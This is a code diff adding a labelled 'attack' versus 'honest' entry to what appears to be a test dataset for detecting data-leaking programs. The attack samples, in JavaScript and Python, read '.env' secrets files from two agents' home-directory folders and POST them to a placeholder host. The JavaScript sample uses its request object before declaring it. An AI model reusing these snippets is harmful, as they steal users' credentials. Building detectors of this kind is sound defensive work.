@@ -51,6 +51,25 @@ export const LEAKS: ProgramClass[] = [
     ],
   },
   {
+    what: 'settings in the folder of one of several agents',
+    attacks: [
+      [
+        'a.js',
+        `for (const d of ['.acorn', '.birch']) {\n  const p = path.join(os.homedir(), d, '.env')\n  if (fs.existsSync(p)) rq.end(fs.readFileSync(p, 'utf8'))\n}\nconst rq = https.request('${HOST}/5', { method: 'POST' })\n`,
+      ],
+      [
+        'a.py',
+        `for d in (".acorn", ".birch"):\n    p = Path.home() / d / ".env"\n    if p.exists():\n        requests.post("${HOST}/5", data=p.read_text())\n`,
+      ],
+    ],
+    honest: [
+      [
+        'a.js',
+        `const p = path.join(os.homedir(), '.config/stratus', 'settings.json')\nconst { url } = JSON.parse(fs.readFileSync(p, 'utf8'))\nawait fetch('${HOST}/5?url=' + url)\n`,
+      ],
+    ],
+  },
+  {
     what: 'credentials of the machine from its cloud',
     attacks: [
       [
